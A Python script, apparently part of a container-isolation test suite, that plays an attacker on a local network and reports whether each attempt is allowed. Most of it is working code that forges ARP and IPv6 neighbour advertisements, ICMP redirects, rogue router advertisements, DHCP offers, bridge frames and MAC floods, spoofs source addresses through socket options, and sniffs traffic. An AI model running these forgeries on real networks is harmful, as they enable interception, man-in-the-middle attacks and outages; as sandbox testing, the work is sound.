"""An attacker in a network: forges addresses, with and without rights over its own interface; and who watches what arrives.

Runs in containers, with nothing but the standard library. What is tried is a line `NAME: ANSWER`, as in the other attacks.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import random
import socket
import struct
import sys
import time

PORT = 9999
DONE = b"done"
ETH_IP, ETH_ARP, ETH_IPV6, ETH_ALL = 0x0800, 0x0806, 0x86DD, 3
BROADCAST = "ff:ff:ff:ff:ff:ff"
IP_OPTIONS, IP_PKTINFO, IP_FREEBIND, IP_TRANSPARENT = 4, 8, 15, 19
SIOCSIFADDR, SIOCSIFHWADDR, SIOCSARP, SIOCSIFFLAGS = 0x8916, 0x8924, 0x8955, 0x8914
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000


def tell(name, call, *args):
    try:
        call(*args)
    except (OSError, OverflowError) as error:
        print(f"{name}: {getattr(error, 'strerror', None) or error}", flush=True)
    else:
        print(f"{name}: ALLOWED", flush=True)


# ---- Frames ----


def octets(mac):
    return bytes.fromhex(mac.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ether(to, source, kind, body):
    return octets(to) + octets(source) + struct.pack("!H", kind) + body


def arp(operation, source_mac, source, target_mac, target):
    return struct.pack("!HHBBH", 1, ETH_IP, 6, 4, operation) + octets(source_mac) + socket.inet_aton(source) + octets(target_mac) + socket.inet_aton(target)


def ip(source, target, protocol, body, *, fragment=0, options=b"", number=7):
    head = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0, 20 + len(options) + len(body), number, fragment, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def udp(data, port=PORT, source_port=PORT):
    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data


def icmp(kind, code, rest):
    body = struct.pack("!BBH", kind, code, 0) + rest
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def ipv6(source, target, header, body):
    source, target = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, target)
    if header == 58:
        pseudo = source + target + struct.pack("!II", len(body), header)
        body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 6 << 28, len(body), header, 255) + source + target + body


def described(frame):
    """Who says it is from whom: what a victim would believe."""
    mac, kind = frame[6:12].hex(":"), int.from_bytes(frame[12:14], "big")
    if kind == ETH_ARP:
        return f"arp {mac} {frame[22:28].hex(':')} {socket.inet_ntoa(frame[28:32])}"
    if kind == ETH_IP:
        body = frame[14 + (frame[14] & 15) * 4 :]
        detail = {1: f"icmp{body[0]}", 17: f"udp{int.from_bytes(body[:2], 'big')}", 6: "tcp"}.get(frame[23], f"protocol{frame[23]}")
        return f"ip {mac} {socket.inet_ntoa(frame[26:30])} {detail}"
    if kind == ETH_IPV6:
        detail = {17: f"udp{int.from_bytes(frame[54:56], 'big')}", 58: f"icmp{frame[54] if len(frame) > 54 else ''}"}.get(frame[20], f"next{frame[20]}")
        return f"ipv6 {mac} {socket.inet_ntop(socket.AF_INET6, frame[22:38])} {detail}"
    return f"other {mac} {kind:#06x}"


# ---- Forging, with CAP_NET_RAW ----


def forged(me, victim, sister, gateway):
    """Frames that a program must not bring to others, by name."""
    mac, address = me
    for name, (other_mac, other) in (("sister", sister), ("gateway", gateway), ("stranger", ("02:00:00:00:00:99", "203.0.113.9"))):
        datagram = udp(b"forged")
        yield f"ip of {name}", ether(victim[0], mac, ETH_IP, ip(other, victim[1], 17, datagram))
        yield f"mac of {name}", ether(victim[0], other_mac, ETH_IP, ip(address, victim[1], 17, datagram))
        yield f"ip and mac of {name}", ether(victim[0], other_mac, ETH_IP, ip(other, victim[1], 17, datagram))
        yield f"first fragment of {name}", ether(victim[0], mac, ETH_IP, ip(other, victim[1], 17, udp(b"x" * 16)[:16], fragment=0x2000))
        yield f"last fragment of {name}", ether(victim[0], mac, ETH_IP, ip(other, victim[1], 17, b"x" * 8, fragment=2))
        for operation, word in ((1, "request"), (2, "reply")):
            yield f"arp {word} of {name}", ether(victim[0], mac, ETH_ARP, arp(operation, mac, other, victim[0], victim[1]))
            yield f"gratuitous arp {word} of {name}", ether(BROADCAST, mac, ETH_ARP, arp(operation, mac, other, BROADCAST, other))
            yield f"arp {word} with the mac of {name}", ether(victim[0], mac, ETH_ARP, arp(operation, other_mac, address, victim[0], victim[1]))
        yield f"vlan, ip of {name}", octets(victim[0]) + octets(mac) + struct.pack("!HHH", 0x8100, 5, ETH_IP) + ip(other, victim[1], 17, datagram)
        yield f"priority tag, ip of {name}", octets(victim[0]) + octets(mac) + struct.pack("!HHH", 0x8100, 0, ETH_IP) + ip(other, victim[1], 17, datagram)
        yield f"double tag, arp of {name}", octets(BROADCAST) + octets(mac) + struct.pack("!HHHHH", 0x88A8, 1, 0x8100, 1, ETH_ARP) + arp(2, mac, other, BROADCAST, other)
        inner = ip(victim[1], gateway[1], 17, datagram)[:28]
        redirect = icmp(5, 1, socket.inet_aton(address) + inner)
        yield f"icmp redirect of {name}", ether(victim[0], mac, ETH_IP, ip(other, victim[1], 1, redirect))
    yield "icmp redirect in its own name", ether(victim[0], mac, ETH_IP, ip(address, victim[1], 1, redirect))
    yield "icmp router advertisement", ether(BROADCAST, mac, ETH_IP, ip(address, "255.255.255.255", 1, icmp(9, 0, b"\1\2\7\x08" + socket.inet_aton(address) + b"\0" * 4)))
    offer = struct.pack("!BBBBIHH", 2, 1, 6, 0, 1, 0, 0x8000) + b"\0" * 4 + socket.inet_aton("10.9.9.9") + b"\0" * 220 + bytes.fromhex("63825363350102ff")
    yield "dhcp offer", ether(BROADCAST, mac, ETH_IP, ip(address, "255.255.255.255", 17, udp(offer, 68, 67)))
    yield from _of_bridges(mac, sister[0])
    yield from _of_ipv6(mac, victim[0])


def _of_bridges(mac, other_mac):
    bpdu = bytes.fromhex("424203000000000000000000") + octets(mac) + b"\0" * 20
    for name, source in (("", mac), (" with the mac of sister", other_mac)):
        yield f"stp{name}", octets("01:80:c2:00:00:00") + octets(source) + struct.pack("!H", len(bpdu)) + bpdu
        yield f"pvst{name}", octets("01:00:0c:cc:cc:cd") + octets(source) + struct.pack("!H", len(bpdu)) + bpdu
        yield f"lldp{name}", ether("01:80:c2:00:00:0e", source, 0x88CC, b"\2\7\4" + octets(source) + b"\0" * 40)
        yield f"pause{name}", ether("01:80:c2:00:00:01", source, 0x8808, b"\0\1\xff\xff" + b"\0" * 42)
        yield f"802.1x{name}", ether("01:80:c2:00:00:03", source, 0x888E, b"\1\1\0\0" + b"\0" * 42)
    yield "unknown protocol", ether(BROADCAST, mac, 0x88B5, b"\0" * 50)


def _of_ipv6(mac, victim_mac):
    mine = "fe80::1:2:3:4"
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 9999, 9999, 0) + socket.inet_pton(socket.AF_INET6, "fd66::")
    advertisement = icmp(134, 0, struct.pack("!BBHII", 64, 0, 1800, 0, 0) + prefix)
    yield "router advertisement", ether("33:33:00:00:00:01", mac, ETH_IPV6, ipv6(mine, "ff02::1", 58, advertisement))
    neighbour = icmp(136, 0, struct.pack("!I", 0x60000000) + socket.inet_pton(socket.AF_INET6, "fe80::42") + b"\2\1" + octets(mac))
    yield "neighbour advertisement", ether("33:33:00:00:00:01", mac, ETH_IPV6, ipv6(mine, "ff02::1", 58, neighbour))
    redirect = icmp(137, 0, b"\0" * 4 + socket.inet_pton(socket.AF_INET6, mine) + socket.inet_pton(socket.AF_INET6, "fd00::1"))
    yield "icmpv6 redirect", ether(victim_mac, mac, ETH_IPV6, ipv6("fe80::1", "ff02::1", 58, redirect))
    yield "ipv6 datagram", ether(victim_mac, mac, ETH_IPV6, ipv6(mine, "ff02::1", 17, udp(b"forged")))


def packet_socket():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_ALL))
    sock.bind(("eth0", ETH_ALL))
    return sock


def send_last(sock, frame):
    """Send it several times: one alone may find a queue full."""
    for _ in range(20):
        with contextlib.suppress(OSError):
            sock.send(frame)
        time.sleep(0.02)


def forge(parties):
    """Send all of them, then one that is honest, and says that it is the last."""
    me, victim = parties["me"], parties["victim"]
    with packet_socket() as sock:
        for name, frame in forged(me, victim, parties["sister"], parties["gateway"]):
            tell(name, sock.send, frame)
        # As many addresses as would fill the bridge's table, if it learned them.
        for _ in range(parties.get("flood", 0)):
            source = f"02:{random.randbytes(5).hex(':')}"
            with contextlib.suppress(OSError):  # ENOBUFS: the other end does not keep up
                sock.send(ether(victim[0], source, ETH_IP, ip(me[1], victim[1], 17, udp(b"flood"))))
        send_last(sock, ether(victim[0], me[0], ETH_IP, ip(me[1], victim[1], 17, udp(DONE))))


def sniff(parties):
    """Tell each kind of frame that arrives from others, once, until one says that it is the last."""
    seen = set()
    with packet_socket() as sock:
        print("up", flush=True)
        while True:
            frame, (_, _, kind, *_) = sock.recvfrom(70000)
            if kind == socket.PACKET_OUTGOING:
                continue
            line = described(frame)
            if line not in seen:
                seen.add(line)
                print(f"saw {line}", flush=True)
            if parties.get("until", DONE.decode()).encode() in frame:
                return


def record():
    """Write down all that arrives until the standard input ends; then everything at once."""
    with packet_socket() as sock:
        sock.setsockopt(263, 23, 1)  # PACKET_IGNORE_OUTGOING: what it sends itself shall not fill its buffer
        print("up", flush=True)
        sys.stdin.read()
        sock.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                frame, (_, _, kind, *_) = sock.recvfrom(70000)
                if kind != socket.PACKET_OUTGOING:
                    sys.stdout.buffer.write(frame + b"\n")


# ---- Without any rights ----


def watch():
    """Tell from whom datagrams come, until one says that it is the last."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("", PORT))
        print("up", flush=True)
        while True:
            data, (address, _) = sock.recvfrom(100)
            if data == DONE:
                return
            print(f"from {address}", flush=True)


def pretend(parties):
    """Take another's address by every option that a program may set on a socket."""
    victim, other = parties["victim"][1], parties["sister"][1]
    target = (victim, PORT)

    def with_options(*options, kind=socket.SOCK_DGRAM, protocol=0, bind=True):
        with socket.socket(socket.AF_INET, kind, protocol) as sock:
            for level, option, value in options:
                sock.setsockopt(level, option, value)
            if bind:
                sock.bind((other, 0))
            sock.settimeout(2)
            sock.connect(target)
            sock.send(icmp(8, 0, b"\0\1\0\1forged") if protocol == 1 else b"forged")

    def by_message():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            info = struct.pack("=I", 0) + socket.inet_aton(other) * 2
            sock.sendmsg([b"forged"], [(socket.SOL_IP, IP_PKTINFO, info)], 0, target)

    free = (socket.SOL_IP, IP_FREEBIND, 1)
    tell("bind", with_options)
    tell("freebind", with_options, free)
    tell("transparent", with_options, (socket.SOL_IP, IP_TRANSPARENT, 1))
    tell("the source in a control message", by_message)
    with contextlib.suppress(OSError):  # no such sockets here (net.ipv4.ping_group_range)
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).close()
        tell("ping", lambda: with_options(kind=socket.SOCK_DGRAM, protocol=1))
        tell("ping, freebind", lambda: with_options(free, kind=socket.SOCK_DGRAM, protocol=1))
    tell("tcp, freebind", lambda: with_options(free, kind=socket.SOCK_STREAM))
    for name, family, kind, protocol in (("raw", 2, 3, 255), ("raw icmp", 2, 3, 1), ("packet", 17, 3, 0x0300), ("packet, cooked", 17, 2, 0x0300), ("old packet", 2, 10, 0x0300)):
        tell(f"{name} socket", socket.socket, family, kind, protocol)
    link = struct.pack("16s", b"eth0")
    place = struct.pack("=H2s4s8x", socket.AF_INET, b"\0\0", socket.inet_aton(other))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        tell("set an address", fcntl.ioctl, sock, SIOCSIFADDR, link + place)
        tell("set a mac", fcntl.ioctl, sock, SIOCSIFHWADDR, link + struct.pack("=H6s8x", 1, octets(parties["sister"][0])))
        tell("set a neighbour", fcntl.ioctl, sock, SIOCSARP, place + struct.pack("=H6s8x", 1, octets(parties["sister"][0])) + struct.pack("=i16x16s", 2, b"eth0"))
        tell("be promiscuous", fcntl.ioctl, sock, SIOCSIFFLAGS, link + struct.pack("=h14x", 0x1143))
    finish(parties)


def nested(parties):
    """Rights over a user namespace of one's own are none over a network namespace that one was in before."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(CLONE_NEWUSER):
        raise OSError(ctypes.get_errno(), "unshare")
    pretend_raw = [("raw", 2, 3, 255), ("packet", 17, 3, 0x0300)]
    for name, family, kind, protocol in pretend_raw:
        tell(f"{name} socket in a user namespace", socket.socket, family, kind, protocol)
    before = os.open("/proc/self/ns/net", os.O_RDONLY)
    if libc.unshare(CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "unshare")
    socket.socket(17, 3, 0x0300).close()  # its own: this works, and leads nowhere
    tell("back to the network with these rights", lambda: libc.setns(before, CLONE_NEWNET) and _raise())


def _raise():
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def finish(parties):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(DONE, (parties["victim"][1], PORT))


def source_route(parties):
    """Ask the gateway to pass a datagram on (loose source routing, RFC 791), which takes no rights."""
    for hop in parties["hops"]:
        for target in parties["targets"]:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                options = bytes([1, 131, 7, 4]) + socket.inet_aton(target)

                def send(sock=sock, options=options, hop=hop):
                    sock.setsockopt(socket.SOL_IP, IP_OPTIONS, options)
                    sock.sendto(b"routed", (hop, parties["port"]))

                tell(f"source route by {hop} to {target}", send)


# ---- IPv6 ----


def udp6(source, target, data, port=PORT):
    body = struct.pack("!HHHH", PORT, port, 8 + len(data), 0) + data
    pseudo = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + struct.pack("!II", len(body), 17)
    return body[:6] + struct.pack("!H", checksum(pseudo + body) or 0xFFFF) + body[8:]


def extended(kind, header, body, *, fragment=None, source=None, target=None):
    """The headers that may stand before *body*, of type *header*: options, routing, a fragment's."""
    if kind == 44:
        return struct.pack("!BBHI", header, 0, fragment, 77) + body
    if kind == 43:
        return struct.pack("!BBBBI", header, 2, 0, 1, 0) + socket.inet_pton(socket.AF_INET6, target) + body
    return struct.pack("!BB", header, 0) + b"\1\4\0\0\0\0" + body  # PadN


def summed6(source, target, body):
    """A message of ICMPv6 with its checksum, whatever headers are to stand before it."""
    return ipv6(source, target, 58, body)[40:]


def forged6(me, victim, sister, gateway):
    """As `forged`: what would have others believe in sources, neighbours and routers."""
    mac, address = me
    all_nodes, to_all = "ff02::1", "33:33:00:00:00:01"
    for name, (other_mac, other) in (("sister", sister), ("gateway", gateway), ("stranger", ("02:00:00:00:00:99", "2001:db8::9")), ("link", (mac, "fe80::7"))):
        datagram = ipv6(other, victim[1], 17, udp6(other, victim[1], b"forged"))
        yield f"source of {name}", ether(victim[0], mac, ETH_IPV6, datagram)
        yield f"source and mac of {name}", ether(victim[0], other_mac if other_mac != mac else gateway[0], ETH_IPV6, datagram)
        yield f"vlan, source of {name}", octets(victim[0]) + octets(mac) + struct.pack("!HHH", 0x8100, 5, ETH_IPV6) + datagram
        for kind in (0, 60, 43):
            body = extended(kind, 17, udp6(other, victim[1], b"forged"), target=victim[1])
            yield f"source of {name} behind header {kind}", ether(victim[0], mac, ETH_IPV6, ipv6(other, victim[1], kind, body))
        yield f"fragment of {name}", ether(victim[0], mac, ETH_IPV6, ipv6(other, victim[1], 44, extended(44, 17, bytes(16), fragment=1)))
        # Neighbours: somebody's address is at my MAC, or at that of nobody.
        claim = icmp(136, 0, struct.pack("!I", 0x60000000) + socket.inet_pton(socket.AF_INET6, other) + b"\2\1" + octets(mac))
        for source in {other, address, "fe80::7"}:
            for target, to in ((all_nodes, to_all), (victim[1], victim[0])):
                yield f"neighbour advertisement for {name} by {source} to {target}", ether(to, mac, ETH_IPV6, ipv6(source, target, 58, claim))
        asking = icmp(135, 0, bytes(4) + socket.inet_pton(socket.AF_INET6, victim[1]) + b"\1\1" + octets(mac))
        yield f"neighbour solicitation of {name}", ether(victim[0], mac, ETH_IPV6, ipv6(other, victim[1], 58, asking))
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 9999, 9999, 0) + socket.inet_pton(socket.AF_INET6, "fd66::")
    servers = struct.pack("!BBHI", 25, 3, 0, 9999) + socket.inet_pton(socket.AF_INET6, address)
    router = icmp(134, 0, struct.pack("!BBHII", 64, 0, 1800, 0, 0) + prefix + servers + b"\1\1" + octets(mac))
    redirect = icmp(137, 0, bytes(4) + socket.inet_pton(socket.AF_INET6, address) + socket.inet_pton(socket.AF_INET6, "2001:db8::1"))
    for word, message in (("router advertisement", router), ("redirect", redirect)):
        for source in (address, gateway[1], "fe80::7"):
            for target, to in ((all_nodes, to_all), (victim[1], victim[0])):
                yield f"{word} by {source} to {target}", ether(to, mac, ETH_IPV6, ipv6(source, target, 58, message))
        for kind in (0, 60):
            body = extended(kind, 58, summed6(address, victim[1], message))
            yield f"{word} behind header {kind}", ether(victim[0], mac, ETH_IPV6, ipv6(address, victim[1], kind, body))
    yield "dhcp reply", ether(victim[0], mac, ETH_IPV6, ipv6(address, victim[1], 17, struct.pack("!HHHH", 547, 546, 12, 0) + b"\7\0\0\1"))


def forge6(parties):
    """Send all of them, then one that is honest, and says that it is the last."""
    me, victim = parties["me"], parties["victim"]
    with packet_socket() as sock:
        for name, frame in forged6(me, victim, parties["sister"], parties["gateway"]):
            tell(name.replace(": ", " "), sock.send, frame)
        send_last(sock, ether(victim[0], me[0], ETH_IPV6, ipv6(me[1], victim[1], 17, udp6(me[1], victim[1], DONE))))


def detour6(parties):
    """Send to a host outside what is not allowed, in whatever wrapping."""
    (mac, address), (to, theirs), (_, sister) = parties["me"], parties["outside"], parties["sister"]
    datagram = udp6(address, theirs, b"9999", 9)
    ping = summed6(address, theirs, icmp(128, 0, bytes(4) + b"tunnel"))
    wrapped = [(17, datagram), (58, ping), (47, b"gre!"), (41, ipv6(address, theirs, 17, datagram)), (4, ip("10.0.0.1", "10.0.0.2", 17, b"x" * 8)), (132, bytes(12)), (59, b"")]
    wrapped += [(kind, extended(kind, 17, datagram, target=theirs)) for kind in (0, 60, 43)]
    long = udp6(address, theirs, b"9999" + bytes(36), 9)
    wrapped += [(44, extended(44, 17, long[:16], fragment=1)), (44, extended(44, 17, long[16:], fragment=16)), (44, extended(44, 17, datagram, fragment=0))]
    with packet_socket() as sock:
        for number, (kind, body) in enumerate(wrapped):
            for source in (address, sister):
                tell(f"{number} {kind} {source}", sock.send, ether(to, mac, ETH_IPV6, ipv6(source, theirs, kind, body)))


def invalid6(parties):
    """Send answers to what nobody has asked."""
    (mac, address), (to, theirs) = parties["me"], parties["outside"]
    ends = socket.inet_pton(socket.AF_INET6, address) + socket.inet_pton(socket.AF_INET6, theirs)
    with packet_socket() as sock:
        for flags in (0x10, 0x12, 0x04, 0x11, 0x29):
            body = struct.pack("!HHIIBBHHH", 1, 8000, 1, 1, 0x50, flags, 100, 0, 0)
            body = body[:16] + struct.pack("!H", checksum(ends + struct.pack("!II", len(body), 6) + body)) + body[18:]
            tell(f"flags {flags}", sock.send, ether(to, mac, ETH_IPV6, ipv6(address, theirs, 6, body)))


def watch6():
    """As `watch`."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.bind(("::", PORT))
        print("up", flush=True)
        while True:
            data, (address, *_) = sock.recvfrom(100)
            if data == DONE:
                return
            print(f"from {address}", flush=True)


def pretend6(parties):
    """As `pretend`."""
    victim, other = parties["victim"][1], parties["sister"][1]

    def with_options(*options, kind=socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET6, kind) as sock:
            for level, option, value in options:
                sock.setsockopt(level, option, value)
            sock.bind((other, 0))
            sock.settimeout(0.3)  # of TCP: who is answered is somebody else
            sock.connect((victim, PORT))
            sock.send(b"forged")

    def by_message():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
            info = socket.inet_pton(socket.AF_INET6, other) + struct.pack("=I", 0)
            sock.sendmsg([b"forged"], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, (victim, PORT))

    free, transparent = (socket.IPPROTO_IPV6, 78, 1), (socket.IPPROTO_IPV6, 75, 1)  # IPV6_FREEBIND, IPV6_TRANSPARENT
    tell("bind", with_options)
    tell("freebind", with_options, free)
    tell("transparent", with_options, transparent)
    tell("tcp, freebind", lambda: with_options(free, kind=socket.SOCK_STREAM))
    tell("the source in a control message", by_message)
    for name, kind, protocol in (("raw", 3, 255), ("raw icmp", 3, 58)):
        tell(f"{name} socket", socket.socket, socket.AF_INET6, kind, protocol)
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(DONE, (victim, PORT))


if __name__ == "__main__":
    command = {"forge6": forge6, "detour6": detour6, "invalid6": invalid6, "pretend6": pretend6, "watch6": lambda _: watch6(), "forge": forge, "sniff": sniff, "record": lambda _: record(), "watch": lambda _: watch(), "pretend": pretend, "nested": nested, "source_route": source_route, "finish": finish}
    command[sys.argv[1]](json.loads(sys.argv[2]) if len(sys.argv) > 2 else {})
